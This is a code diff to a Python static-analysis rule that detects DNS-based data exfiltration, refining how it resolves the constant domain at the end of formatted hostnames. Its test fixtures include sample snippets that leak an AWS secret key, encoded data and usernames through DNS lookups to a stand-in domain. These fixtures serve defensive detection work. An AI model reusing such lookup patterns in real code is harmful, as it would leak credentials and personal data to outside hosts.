@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 from datasec_scan.lazycst import cst
 
 from datasec_scan.model import Category, Confidence, Severity
@@ -14,6 +16,25 @@ from ._prescreen import CodeTextScreen
 
 _LOCAL_SUFFIXES = (".local", ".localdomain", ".lan", ".home.arpa", ".localhost", ".internal")
 _ENCODERS = ("b64encode", "b32encode", "b16encode", "urlsafe_b64encode", "hexlify", "hex", "b85encode", "encode")
+
+
+_PERCENT_FIELD = re.compile(r"%[-#0 +]*\d*(?:\.\d+)?[sdirxXuf]")
+_BRACE_FIELD = re.compile(r"\{\}")
+
+
+def _trailing_constant(fmt: str, field: re.Pattern[str], args: list[cst.BaseExpression], names: object) -> str | None:
+    """The constant end of a formatted name: its text after the last field, and the fields before it whose values
+    are constants (`"%s.%d.%s" % (chunk, i, DOMAIN)` ends in "." + DOMAIN)."""
+    pieces = field.split(fmt)
+    if len(pieces) - 1 != len(args):
+        return pieces[-1] if len(pieces) > 1 else None
+    suffix = pieces[-1]
+    for text, arg in zip(reversed(pieces[:-1]), reversed(args)):
+        value = fold_str(arg, names)  # type: ignore[arg-type]
+        if value is None:
+            return suffix
+        suffix = text + value + suffix
+    return None  # every part constant: not a composite name
 
 
 class DnsExfiltration(CodeTextScreen, Rule):
@@ -64,12 +85,14 @@ class DnsExfiltration(CodeTextScreen, Rule):
         "import socket\ndef lookup(host):\n    return socket.gethostbyname(host)\n",
         "import socket\nregion = 'eu'\nsocket.gethostbyname(f'api.{region}.example.com')\n",
         "import subprocess\ndef check(name):\n    subprocess.run(['nslookup', name + '.svc.example.com'])\n",
+        "import socket\ndef resolve(host, domain):\n    return socket.getaddrinfo('%s.%s' % (host, domain), 443)\n",
     )
     INVALID = (
         "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example.net')\n",
         ("import base64, socket\ndef beacon(data):\n    socket.gethostbyname(base64.b32encode(data).decode() + "
          "'.x.example.net')\n"),
         "import getpass, subprocess\nsubprocess.run(['nslookup', getpass.getuser() + '.x.example.net'])\n",
+        "import getpass, socket\nZONE = 'x.example.net'\nsocket.getaddrinfo('%s.%d.%s' % (getpass.getuser(), 0, ZONE), 80)\n",
     )
 
     @classmethod
@@ -128,11 +151,14 @@ class DnsExfiltration(CodeTextScreen, Rule):
             suffix = fold_str(expr.right, names)
         elif isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Modulo):
             fmt = fold_str(expr.left, names)
-            suffix = fmt.rsplit("%s", 1)[-1] if fmt and "%s" in fmt else None
+            args = [e.value for e in expr.right.elements] if isinstance(expr.right, cst.Tuple) else [expr.right]
+            suffix = _trailing_constant(fmt, _PERCENT_FIELD, args, names) if fmt else None
         elif isinstance(expr, cst.Call) and isinstance(expr.func, cst.Attribute):
             if expr.func.attr.value == "format":
                 fmt = fold_str(expr.func.value, names)
-                suffix = fmt.rsplit("}", 1)[-1] if fmt and "}" in fmt else None
+                args = [a.value for a in expr.args if a.keyword is None and not a.star]
+                suffix = _trailing_constant(fmt, _BRACE_FIELD, args, names) if fmt and "{}" in fmt else (
+                    fmt.rsplit("}", 1)[-1] if fmt and "}" in fmt else None)
             elif expr.func.attr.value == "join" and fold_str(expr.func.value, names) == "." and expr.args:
                 seq = expr.args[0].value
                 if isinstance(seq, (cst.List, cst.Tuple)) and seq.elements:
